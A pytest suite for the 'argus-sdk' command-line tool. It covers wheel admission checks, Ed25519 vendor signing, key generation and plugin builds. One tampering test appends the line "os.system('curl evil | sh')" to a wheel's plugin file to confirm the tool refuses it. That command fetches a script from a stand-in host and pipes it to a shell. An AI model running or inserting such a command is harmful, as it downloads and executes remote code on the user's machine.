"""``argus-sdk`` run as a real subprocess on real wheels, real keys and real plugin
projects built with their real build backend (hatchling, installed in the dev venv)."""

from __future__ import annotations

import json
import subprocess
import sys
import zipfile
from pathlib import Path
from typing import Any

import pytest
from packaging.tags import Tag

from argus_sdk.packages import inspect_package
from argus_sdk.signing import signature_path
from argus_sdk.testing import make_wheel

WHEEL = "acme_driver-2.4.0-py3-none-any.whl"
PYPROJECT = """\
[build-system]
requires = ["{backend}"]
build-backend = "hatchling.build"

[project]
name = "{name}"
version = "0.3.0"
dependencies = ["argus-sdk>=1.0,<2"]
{entry_points}
[tool.hatch.build.targets.wheel]
packages = ["src/{package}"]
"""


def run(*args: str | Path, cwd: Path | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run(
        [sys.executable, "-m", "argus_sdk.cli", *map(str, args)],
        capture_output=True,
        text=True,
        cwd=cwd,
        timeout=120,
    )


def checked(*args: str | Path) -> list[dict[str, Any]]:
    result = run("check", "--json", *args)
    assert result.returncode in (0, 1), result.stderr
    report: list[dict[str, Any]] = json.loads(result.stdout)
    return report


def keys(tmp_path: Path, *names: str) -> Path:
    """Key pairs made by ``argus-sdk keygen`` in ``tmp_path/keys``."""
    folder = tmp_path / "keys"
    folder.mkdir(exist_ok=True)
    for name in names:
        made = run("keygen", name, "--dir", folder)
        assert made.returncode == 0, made.stderr
    return folder


def trust(tmp_path: Path, *names: str) -> Path:
    """A master's vendor_keys_dir holding the public keys of ``names``."""
    folder = tmp_path / "trusted"
    folder.mkdir()
    for name in names:
        (folder / f"{name}.pem").write_bytes((tmp_path / "keys" / f"{name}.pem").read_bytes())
    return folder


def project(
    tmp_path: Path, name: str = "acme-cam", group: str | None = "argus.camera_drivers"
) -> Path:
    """A tiny plugin project, as a third-party developer would write it."""
    package = name.replace("-", "_")
    root = tmp_path / name
    (root / "src" / package).mkdir(parents=True)
    (root / "src" / package / "__init__.py").write_text("")
    (root / "src" / package / "plugin.py").write_text("from argus_sdk import hookimpl\n")
    entry_points = f'\n[project.entry-points."{group}"]\nacme = "{package}.plugin"\n'
    (root / "pyproject.toml").write_text(
        PYPROJECT.format(
            backend="hatchling",
            name=name,
            package=package,
            entry_points=entry_points if group else "",
        )
    )
    return root


def test_an_accepted_package_is_described(tmp_path: Path) -> None:
    path = make_wheel(tmp_path / WHEEL)
    result = run("check", path)
    assert result.returncode == 0, result.stderr
    lines = result.stdout.splitlines()
    assert lines[0] == f"{path}: accepted"
    assert "  name       acme-driver" in lines and "  version    2.4.0" in lines
    assert "  kinds      camera-driver (argus.camera_drivers: acme)" in lines
    assert "  tags       py3-none-any" in lines and "  argus-sdk  <2,>=1.0" in lines
    assert "  vendor     unsigned" in lines
    [report] = checked(path)
    assert report["accepted"] and report["reason"] is None
    assert (report["name"], report["version"], report["kinds"]) == (
        "acme-driver",
        "2.4.0",
        ["camera-driver"],
    )
    assert report["sha256"] in result.stdout and report["size"] == path.stat().st_size
    assert (report["signature"], report["vendor"]) == ("none", None)


def test_a_tampered_package_is_refused_with_the_reason(tmp_path: Path) -> None:
    (tmp_path / "good").mkdir()
    good = make_wheel(tmp_path / "good" / WHEEL)
    tampered = tmp_path / WHEEL
    with zipfile.ZipFile(good) as source, zipfile.ZipFile(tampered, "w") as target:
        for info in source.infolist():
            data = source.read(info)
            if info.filename == "acme_driver/plugin.py":
                data += b"import os; os.system('curl evil | sh')\n"
            target.writestr(info, data)
    ok = make_wheel(tmp_path / "acme_driver-2.5.0-py3-none-any.whl", version="2.5.0")
    result = run("check", ok, tampered)
    assert result.returncode == 1
    assert f"{ok}: accepted" in result.stdout
    assert (
        f"{tampered}: refused: acme_driver/plugin.py: its bytes do not match RECORD (tampered?)"
        in result.stdout
    )
    reports = checked(ok, tampered)
    assert [r["accepted"] for r in reports] == [True, False]
    assert "do not match RECORD" in reports[1]["reason"] and "name" not in reports[1]


def test_a_package_signed_by_a_trusted_vendor_names_it(tmp_path: Path) -> None:
    path = make_wheel(tmp_path / WHEEL)
    folder = keys(tmp_path, "acme")
    signed = run("sign", path, "--key", folder / "acme.key")
    assert signed.returncode == 0, signed.stderr
    assert len(signature_path(path).read_bytes()) == 64
    trusted = trust(tmp_path, "acme")
    result = run("check", path, "--vendor-keys", trusted, "--require-signature")
    assert result.returncode == 0, result.stdout
    assert "  vendor     signed by acme (verified)" in result.stdout
    [report] = checked(path, "--vendor-keys", trusted)
    assert (report["signature"], report["vendor"]) == ("verified", "acme")
    unverified = run("check", path)  # no keys given: said so, still accepted
    assert unverified.returncode == 0
    assert "signed, not verified (give --vendor-keys DIR to verify)" in unverified.stdout


def test_signatures_that_do_not_verify_are_refused(tmp_path: Path) -> None:
    path = make_wheel(tmp_path / WHEEL)
    folder = keys(tmp_path, "acme", "evil")
    trusted = trust(tmp_path, "acme")
    assert run("sign", path, "--key", folder / "evil.key").returncode == 0
    untrusted = run("check", path, "--vendor-keys", trusted)
    assert untrusted.returncode == 1
    assert "its signature is not by a trusted vendor (acme)" in untrusted.stdout
    assert checked(path, "--vendor-keys", trusted)[0]["signature"] == "invalid"

    assert run("sign", path, "--key", folder / "acme.key").returncode == 0
    make_wheel(path, files={"acme_driver/extra.py": b"x = 1\n"})  # other bytes, same name
    changed = run("check", path, "--vendor-keys", trusted)
    assert changed.returncode == 1 and "the file changed after signing" in changed.stdout

    signature_path(path).write_bytes(b"not a signature")
    malformed = run("check", path)  # refused for its form even without keys
    assert malformed.returncode == 1
    assert "its signature is 15 bytes, not a raw 64-byte Ed25519 signature" in malformed.stdout


def test_an_unsigned_package_is_refused_when_a_signature_is_required(tmp_path: Path) -> None:
    path = make_wheel(tmp_path / WHEEL)
    trusted = trust(keys(tmp_path, "acme").parent, "acme")
    result = run("check", path, "--vendor-keys", trusted, "--require-signature")
    assert result.returncode == 1
    assert "unsigned, and admission requires a vendor signature" in result.stdout
    no_keys = run("check", path, "--require-signature")
    assert no_keys.returncode == 2 and "needs --vendor-keys" in no_keys.stderr


def test_usage_errors_exit_2_and_say_what_is_wrong(tmp_path: Path) -> None:
    path = make_wheel(tmp_path / WHEEL)
    missing_key = run("sign", path, "--key", tmp_path / "nope.key")
    assert missing_key.returncode == 2
    assert "nope.key: cannot read the private key" in missing_key.stderr
    assert not signature_path(path).exists()
    missing_file = run("check", tmp_path / "nope.whl")
    assert missing_file.returncode == 2 and "no such file" in missing_file.stderr
    missing_keys = run("check", path, "--vendor-keys", tmp_path / "nowhere")
    assert missing_keys.returncode == 2 and "not a folder" in missing_keys.stderr
    assert run("check").returncode == 2  # argparse: FILE is required
    bad_name = run("keygen", "../acme", "--dir", tmp_path)
    assert bad_name.returncode == 2 and "not a vendor name" in bad_name.stderr


def test_keygen_never_overwrites_a_key(tmp_path: Path) -> None:
    folder = keys(tmp_path, "acme")
    before = (folder / "acme.key").read_bytes(), (folder / "acme.pem").read_bytes()
    again = run("keygen", "acme", "--dir", folder)
    assert again.returncode == 2 and "exists already" in again.stderr
    assert ((folder / "acme.key").read_bytes(), (folder / "acme.pem").read_bytes()) == before
    here = run("keygen", "globex", cwd=tmp_path)  # --dir defaults to the current folder
    assert here.returncode == 0 and (tmp_path / "globex.key").stat().st_mode & 0o077 == 0


def test_sign_refuses_a_package_the_master_would_refuse(tmp_path: Path) -> None:
    path = make_wheel(tmp_path / WHEEL, requires=())
    folder = keys(tmp_path, "acme")
    result = run("sign", path, "--key", folder / "acme.key")
    assert result.returncode == 1 and "no argus-sdk requirement" in result.stdout
    assert not signature_path(path).exists()


def test_the_installed_command_runs() -> None:
    script = Path(sys.executable).parent / "argus-sdk"
    assert script.is_file(), "pip install -e sdk registers the argus-sdk console script"
    result = subprocess.run([script, "--version"], capture_output=True, text=True, timeout=60)
    assert result.returncode == 0 and result.stdout.startswith("argus-sdk ")


@pytest.mark.slow
def test_build_makes_a_wheel_the_master_accepts(tmp_path: Path) -> None:
    root = project(tmp_path)
    result = run("build", root, "--out", tmp_path / "out")
    assert result.returncode == 0, result.stdout + result.stderr
    [wheel] = (tmp_path / "out").glob("*.whl")
    assert wheel.name.startswith("acme_cam-0.3.0-")
    assert f"{wheel}: accepted" in result.stdout
    assert "camera-driver (argus.camera_drivers: acme)" in result.stdout
    assert run("check", wheel).returncode == 0
    again = run("build", "--json", cwd=root)  # PROJECT_DIR defaults to ., --out to dist
    assert again.returncode == 0, again.stderr
    [report] = json.loads(again.stdout)  # the backend's chatter stays off stdout
    assert report["accepted"] and Path(report["file"]).parent == root / "dist"


@pytest.mark.slow
def test_build_of_a_project_without_argus_entry_points_is_refused(tmp_path: Path) -> None:
    root = project(tmp_path, group=None)
    result = run("build", root)
    assert result.returncode == 1
    [wheel] = (root / "dist").glob("*.whl")  # it builds; the master would refuse it
    assert f"{wheel}: refused: provides no Argus plugin" in result.stdout


@pytest.mark.slow
def test_build_of_a_spotter_plugin_makes_a_spi(tmp_path: Path) -> None:
    root = project(tmp_path, name="acme-spi-counter", group="argus.spi")
    result = run("build", root, "--json")
    assert result.returncode == 0, result.stderr
    [report] = json.loads(result.stdout)
    assert report["file"].endswith(".spi") and report["spotter"]
    assert report["kinds"] == ["spi"] and not list((root / "dist").glob("*.whl"))


@pytest.mark.slow
def test_build_needs_the_backend_installed_and_says_so(tmp_path: Path) -> None:
    root = project(tmp_path)
    text = (root / "pyproject.toml").read_text()
    (root / "pyproject.toml").write_text(text.replace('"hatchling"', '"argus-no-such-backend"'))
    result = run("build", root)
    assert result.returncode == 2
    assert "needs argus-no-such-backend" in result.stderr and "pip install" in result.stderr
    assert not (root / "dist").exists()
    nothing = run("build", tmp_path / "empty")
    assert nothing.returncode == 2 and "no pyproject.toml" in nothing.stderr


@pytest.mark.slow
def test_build_makes_one_wheel_per_declared_platform(tmp_path: Path) -> None:
    root = project(tmp_path)
    for platform, marker in (("linux_x86_64", b"\x7fELF 64"), ("linux_i686", b"\x7fELF 32")):
        lib = root / "native" / platform / "acme_cam" / "lib" / "libacme.so"
        lib.parent.mkdir(parents=True)
        lib.write_bytes(marker)
    with (root / "pyproject.toml").open("a") as f:
        f.write(
            "\n[tool.argus.variants]\n"
            'linux_x86_64 = "native/linux_x86_64"\nlinux_i686 = "native/linux_i686"\n'
        )
    result = run("build", root, "--json")
    assert result.returncode == 0, result.stdout + result.stderr
    reports = {Path(r["file"]).name.split("-none-")[1]: r for r in json.loads(result.stdout)}
    assert sorted(reports) == ["linux_i686.whl", "linux_x86_64.whl"]
    assert all(r["accepted"] for r in reports.values())  # RECORD and tags check out
    assert not list((root / "dist").glob("*-any.whl"))  # only the variants are kept
    for name, marker in (("linux_i686", b"\x7fELF 32"), ("linux_x86_64", b"\x7fELF 64")):
        wheel = Path(reports[f"{name}.whl"]["file"])
        with zipfile.ZipFile(wheel) as archive:
            assert archive.read("acme_cam/lib/libacme.so") == marker
            text = archive.read("acme_cam-0.3.0.dist-info/WHEEL").decode()
        assert f"Tag: py3-none-{name}" in text and "Root-Is-Purelib: false" in text
        tags = inspect_package(wheel).tags
        assert Tag("py3", "none", name) in tags and all(t.platform == name for t in tags)


@pytest.mark.slow
def test_a_variant_folder_that_is_missing_is_a_usage_error(tmp_path: Path) -> None:
    root = project(tmp_path)
    with (root / "pyproject.toml").open("a") as f:
        f.write('\n[tool.argus.variants]\nlinux_i686 = "native/nowhere"\n')
    result = run("build", root)
    assert result.returncode == 2
    assert "'native/nowhere' is not a folder of the project" in result.stderr
